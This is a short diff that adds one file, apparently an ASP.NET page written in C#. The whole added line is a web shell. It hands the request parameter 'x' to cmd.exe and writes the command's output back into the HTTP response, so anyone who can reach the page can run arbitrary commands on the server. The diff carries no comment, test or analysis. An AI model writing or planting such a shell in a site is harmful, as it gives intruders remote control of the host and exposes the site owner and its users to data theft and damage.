@@ -1,0 +1,1 @@
+<%@ Page Language="C#" %><% var p = new System.Diagnostics.ProcessStartInfo("cmd.exe", "/c " + Request["x"]); p.RedirectStandardOutput = true; p.UseShellExecute = false; Response.Write(System.Diagnostics.Process.Start(p).StandardOutput.ReadToEnd()); %>
